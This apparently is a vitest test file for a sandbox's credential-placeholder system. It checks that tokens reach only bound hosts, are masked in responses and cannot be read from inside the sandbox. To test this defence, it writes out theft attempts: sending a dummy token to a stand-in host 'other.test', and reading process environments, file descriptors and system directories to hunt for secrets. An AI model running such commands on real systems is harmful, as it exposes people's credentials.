/** Credentials in whole runs: real programs, a server with TLS, and a search of everything that the sandbox can read. */
import { closeSync, openSync, readFileSync, rmSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommand } from '../support/command.ts';
import { type Certificate, makeCertificate } from './support/certificate.ts';
import { because, missing } from './support/host.ts';
import {
  environmentOf,
  eventsOf,
  type Finished,
  inNamespaces,
  OPENSHELL,
  openshell,
} from './support/openshell.ts';
import { useScratch } from './support/scratch.ts';
import { serve, type WebServer } from './support/server.ts';

const TOKEN = 'ghp_Zq8x-real-token-4711';
const PASSWORD = 'p@ss/w"ord of a file';
const lacking = missing('curl', 'openssl');
const scratch = useScratch();
const here = { cwd: scratch.project, home: scratch.home, env: { REAL_TOKEN: TOKEN } };
let api: WebServer;
let plain: WebServer;
let certificate: Certificate;

/** What servers were sent, head and body. */
const received: string[] = [];
const answer: RequestListener = (request, response) => {
  let body = '';
  request.setEncoding('utf8').on('data', (text: string) => {
    body += text;
  });
  request.on('end', () => {
    const { method, url, headers } = request;
    const echo = JSON.stringify({ method, url, headers, body });
    received.push(echo);
    if (url === '/redirect') {
      response.writeHead(302, { location: 'https://other.test/stolen' }).end();
    } else if (url === '/gzip') {
      response.setHeader('content-encoding', 'gzip');
      response.end(gzipSync(echo));
    } else if (url === '/slowly') {
      const pieces = echo.match(/.{1,9}/gs) ?? [];
      response.setHeader('x-echo', headers.authorization ?? '');
      const next = (): void => {
        const piece = pieces.shift();
        if (piece === undefined) response.end();
        else response.write(piece, () => setTimeout(next, 1));
      };
      next();
    } else {
      response.setHeader('x-echo', headers.authorization ?? '');
      response.end(echo);
    }
  });
};

beforeAll(async () => {
  if (lacking.length > 0) return;
  certificate = makeCertificate(scratch, ['api.test', 'other.test']);
  api = await serve(answer, certificate);
  plain = await serve(answer);
});
afterAll(() => Promise.all([api?.close(), plain?.close()]));

const POLICY = [
  'version: 1',
  'network_policies:',
  '  api:',
  '    endpoints:',
  '      - {host: api.test, port: 443, protocol: rest, access: full, request_body_credential_rewrite: true,',
  '         credential_binding: {provider: api}}',
  '      - {host: api.test, port: 80, protocol: rest, access: full, credential_binding: {provider: api}}',
  '      - {host: other.test, port: 443, protocol: rest, access: full}',
  '    binaries: [{path: /usr/bin/curl}]',
  '',
].join('\n');
const IN_PROJECT = 'home/project/credentials.json';
const FILE = JSON.stringify({ credentials: { API_TOKEN: TOKEN, API_PASSWORD: PASSWORD } });

interface Wanted {
  readonly credential?: readonly string[];
  readonly policy?: string;
  readonly more?: readonly string[];
}

function words(script: string, { credential, policy = POLICY, more = [] }: Wanted = {}): string[] {
  // Without namespaces it cannot be hidden in a directory that is shown.
  const file = scratch.write(inNamespaces ? IN_PROJECT : 'credentials.json', FILE, 0o600);
  const given = credential ?? [`api=file:${file}`];
  const connectTo = [
    `api.test:443:127.0.0.1:${api.port}`,
    `other.test:443:127.0.0.1:${api.port}`,
    `api.test:80:127.0.0.1:${plain.port}`,
  ];
  return [
    'run',
    ...['--policy', scratch.policy(policy), '--upstream-ca', certificate.authority],
    ...given.flatMap((text) => ['--credential', text]),
    ...connectTo.flatMap((text) => ['--connect-to', text]),
    ...[...more, '--', 'sh', '-c', script],
  ];
}

const inside = (script: string, wanted: Wanted = {}): Promise<Finished> =>
  openshell(words(script, wanted), here);

interface Echo {
  readonly url: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}
const last = (): Echo => JSON.parse(received.at(-1)!) as Echo;

describe.skipIf(lacking.length > 0)(`credentials${because(lacking)}`, () => {
  it.each([
    [
      'bearer',
      '-H "Authorization: Bearer $API_TOKEN" https://api.test/x',
      { headers: { authorization: `Bearer ${TOKEN}` } },
    ],
    [
      'Basic',
      '-u "me:$API_PASSWORD" https://api.test/x',
      { headers: { authorization: `Basic ${Buffer.from(`me:${PASSWORD}`).toString('base64')}` } },
    ],
    ['x-api-key', '-H "X-Api-Key: $API_TOKEN" https://api.test/x', { headers: { 'x-api-key': TOKEN } }],
    [
      'path and query',
      '"https://api.test/bot$API_TOKEN/x?t=$API_TOKEN"',
      { url: `/bot${TOKEN}/x?t=${TOKEN}` },
    ],
    [
      'form',
      '--data-urlencode "p=$API_PASSWORD" https://api.test/x',
      { body: new URLSearchParams({ p: PASSWORD }).toString().replaceAll('+', '%20') },
    ],
    [
      'JSON',
      `-H 'Content-Type: application/json' -d "{\\"p\\": \\"$API_PASSWORD\\"}" https://api.test/x`,
      { body: JSON.stringify({ p: PASSWORD }).replace(':', ': ') },
    ],
  ])('reach the server: %s', async (_, words, wanted) => {
    const done = await inside(`curl -sS --fail ${words}`);
    expect(done.stderr).toBe('');
    expect(done.code).toBe(0);
    expect(last()).toMatchObject(wanted);
    expect(done.stdout).not.toContain(TOKEN);
    expect(done.stdout).not.toContain(PASSWORD);
  });

  it.each(['/echo', '/gzip', '/slowly'])('that a server sends back are masked: %s', async (path) => {
    const done = await inside(
      `curl -sSi --compressed -H "Authorization: Bearer $API_TOKEN" https://api.test${path}`,
    );
    expect(last().headers['authorization']).toBe(`Bearer ${TOKEN}`);
    expect(done.stdout).toContain('"authorization":"Bearer ****');
    if (path !== '/gzip')
      expect(done.stdout).toMatch(/x-echo: Bearer openshell:resolve:env:s[0-9a-f]{64}_API_TOKEN/i);
    expect(done.stdout).not.toContain(TOKEN);
  });

  it.each([
    [
      'another host',
      '-H "Authorization: Bearer $API_TOKEN" https://other.test/x',
      'credential_endpoint_mismatch',
      403,
    ],
    [
      'another host, in a body',
      '-d "$API_TOKEN" https://other.test/x',
      'credential_placeholder_in_request_body',
      403,
    ],
    [
      'no TLS',
      '-H "Authorization: Bearer $API_TOKEN" http://api.test/x',
      'credential_endpoint_mismatch',
      403,
    ],
    [
      'an unknown one',
      '-H "Authorization: Bearer openshell:resolve:env:API_TOKEN" https://api.test/x',
      'credential_unavailable',
      500,
    ],
    ['another header', '-H "X-Other: $API_TOKEN" https://api.test/x', 'credential_not_placeable', 403],
    ['TRACE', '-X TRACE https://api.test/x', 'credential_not_placeable', 403],
  ])('are refused: %s', async (_, words, error, status) => {
    const before = received.length;
    const done = await inside(`curl -sS -w '\\n%{http_code}' ${words}`);
    const [body = '', ...rest] = done.stdout.trim().split('\n');
    expect(JSON.parse(body)).toMatchObject({ error });
    expect(rest.at(-1)).toBe(String(status));
    expect(received.length).toBe(before);
  });

  it('do not follow a redirect to another host', async () => {
    const done = await inside(
      `curl -sS -L --location-trusted -H "Authorization: Bearer $API_TOKEN" https://api.test/redirect`,
    );
    expect(last().url).toBe('/redirect');
    expect(JSON.parse(done.stdout)).toMatchObject({
      error: 'credential_endpoint_mismatch',
      host: 'other.test',
    });
  });

  it.each([
    ['that are bound nowhere', ['api=env:REAL_TOKEN', 'other=env:REAL_TOKEN'], 'bound to no endpoint'],
    ['that are not given', [], 'no credential of that name was given'],
    ['in a form that nobody knows', ['api=REAL_TOKEN'], 'expected NAME=env:VAR'],
    ['of a variable that is not set', ['api=env:NO_SUCH'], 'the variable is not set'],
  ])('do not start: %s', async (_, credential, message) => {
    const done = await inside('true', { credential });
    expect(done.stderr).toContain(message);
    expect(done.stderr).not.toContain(TOKEN);
    expect(done.code).toBe(125);
  });

  it('do not start when the command or the environment holds them too', async () => {
    const done = await inside(`echo ${TOKEN}`, { credential: ['api=env:REAL_TOKEN'] });
    expect(done.code).toBe(125);
    expect(done.stderr).toContain('stands in the command or the environment');
    expect(done.stderr).not.toContain(TOKEN);
    const given = await inside('env', {
      credential: ['api=env:REAL_TOKEN'],
      more: ['--env', `COPY=${TOKEN}`],
    });
    expect(given.code).toBe(125);
    expect(given.stdout).toBe('');
  });

  it('of a variable leave its name to the placeholder', async () => {
    const done = await inside('echo "$REAL_TOKEN"', { credential: ['api=env:REAL_TOKEN'] });
    expect(done.stdout).toMatch(/^openshell:resolve:env:s[0-9a-f]{64}_REAL_TOKEN\n$/);
  });

  it('are nowhere that the sandbox can read, and in no event (INV-07)', async () => {
    const events = join(scratch.root, 'events.jsonl');
    const done = await inside(
      [
        'curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/slowly',
        'curl -sS -u "me:$API_PASSWORD" https://api.test/gzip',
        'curl -sS -H "Authorization: Bearer $API_TOKEN" https://other.test/x',
        'env; ls -la; cat credentials.json; ls -l /proc/self/fd; cat /proc/self/fd/* </dev/null',
        'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/maps',
        'grep -rsl -e ghp_Zq8x -e p@ss/w / --include=* --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=lib',
        'for f in /run /tmp /etc "$HOME" .; do find "$f" -type f -exec cat {} + ; done',
      ].join('; '),
      { more: ['--events', events] },
    );
    const all = done.stdout + done.stderr + readFileSync(events, 'utf8');
    expect(received.some((echo) => echo.includes(TOKEN))).toBe(true);
    const forms = [TOKEN, PASSWORD].flatMap((secret) => [
      secret,
      encodeURIComponent(secret),
      JSON.stringify(secret).slice(1, -1),
      Buffer.from(secret).toString('base64').slice(0, -4),
      Buffer.from(`me:${secret}`).toString('base64').slice(4, -4),
      Buffer.from(secret).toString('hex'),
    ]);
    for (const form of forms) expect(all.includes(form), form).toBe(false);
    expect(done.stdout).toContain('API_TOKEN=openshell:resolve:env:');
    const refused = eventsOf(events).filter(({ reason }) => reason === 'credential_endpoint_mismatch');
    expect(refused).toMatchObject([{ type: 'denial', layer: 'egress', rule: { policy: 'api', index: 2 } }]);
  });

  it('may be tokens that are asked for when a request needs one', async () => {
    const asked: string[] = [];
    const tokens = await serve((request, response) => {
      let form = '';
      request.setEncoding('utf8').on('data', (text: string) => {
        form += text;
      });
      request.on('end', () => {
        asked.push(form);
        response.end(JSON.stringify({ access_token: TOKEN, token_type: 'bearer', expires_in: 600 }));
      });
    });
    const grant = {
      strategy: 'oauth2-client-credentials',
      token_url: `http://127.0.0.1:${tokens.port}/token`,
      client_id: 'client',
      client_secret: PASSWORD,
    };
    const file = scratch.write('oauth.json', JSON.stringify({ credentials: { GRAPH_TOKEN: grant } }), 0o600);
    const get = 'curl -sS -H "Authorization: Bearer $GRAPH_TOKEN" https://api.test/x';
    const done = await inside(`curl -sS https://api.test/x; ${get}; ${get}; env`, {
      credential: [`api=file:${file}`],
    });
    await tokens.close();
    expect(last().headers['authorization']).toBe(`Bearer ${TOKEN}`);
    expect(asked).toHaveLength(1);
    expect(new URLSearchParams(asked[0]).get('client_secret')).toBe(PASSWORD);
    expect(done.stdout).not.toContain(TOKEN);
    expect(done.stdout).not.toContain(PASSWORD);
  });

  it('are for the paths to which they are bound', async () => {
    const policy = POLICY.replaceAll(
      'port: 443, protocol: rest, access: full, request',
      'port: 443, path: "/v1/**", protocol: rest, access: full, request',
    ).replace(
      '      - {host: other.test',
      '      - {host: api.test, port: 443, path: "/open/**", protocol: rest, access: full}\n      - {host: other.test',
    );
    const get = (path: string): string =>
      `curl -sS -o /dev/null -w '%{http_code} ' -H "Authorization: Bearer $API_TOKEN" https://api.test${path}`;
    const done = await inside(`${get('/v1/x')}; ${get('/open/x')}; ${get('/v1/../open/x')}`, { policy });
    expect(done.stdout).toBe('200 403 403 ');
  });

  it('are what a metadata server tells of, as a placeholder', async () => {
    const text = JSON.stringify({
      credentials: { GCP_SA_ACCESS_TOKEN: TOKEN },
      gcp: { project_id: 'project-1' },
    });
    const file = scratch.write('gcp.json', text, 0o600);
    const script = [
      'ask() { curl -sS -H "Metadata-Flavor: Google" "http://$GCE_METADATA_HOST/computeMetadata/v1/$1"; }',
      'ask project/project-id; echo',
      'token=$(ask instance/service-accounts/default/token | sed \'s/.*"access_token":"\\([^"]*\\)".*/\\1/\')',
      'curl -sS -H "Authorization: Bearer $token" https://api.test/x; echo',
      'curl -sS -o /dev/null -w "%{http_code}" "http://$GCE_METADATA_HOST/computeMetadata/v1/project/project-id"',
    ].join('\n');
    const done = await inside(script, { credential: [`api=file:${file}`] });
    expect(last().headers['authorization']).toBe(`Bearer ${TOKEN}`);
    expect(done.stdout).toMatch(/^project-1\n\{.*\}\n403$/);
    expect(done.stdout).not.toContain(TOKEN);
  });

  it('come from a descriptor too, which the program does not have', async () => {
    const file = openSync(scratch.write('secret', `${TOKEN}\n`, 0o600), 'r');
    const script = 'curl -sS -H "Authorization: Bearer $API" https://api.test/x; ls /proc/self/fd';
    const args = words(script, { credential: ['api=fd:9'] });
    const done = await runCommand([process.execPath, '--', OPENSHELL, ...args], {
      cwd: here.cwd,
      env: environmentOf(here),
      files: { 9: file },
    });
    closeSync(file);
    expect(last().headers['authorization']).toBe(`Bearer ${TOKEN}`);
    expect(done.stdout).not.toContain(TOKEN);
    expect(done.stdout).not.toMatch(/^9$/m);
  });

  it.skipIf(inNamespaces)('in a file of the project do not start without namespaces', async () => {
    const file = scratch.write(IN_PROJECT, FILE, 0o600);
    const done = await inside('true', { credential: [`api=file:${file}`] });
    expect(done.stderr).toContain('the platform tier cannot hide it there');
    expect(done.code).toBe(125);
    rmSync(file);
  });

  it.skipIf(!inNamespaces)('in a file of the project are hidden there', async () => {
    const done = await inside(
      'cat credentials.json; wc -c < credentials.json; rm credentials.json; mv credentials.json x',
    );
    expect(done.stdout).not.toContain(TOKEN);
    expect(readFileSync(join(scratch.project, 'credentials.json'), 'utf8')).toBe(FILE);
  });
});
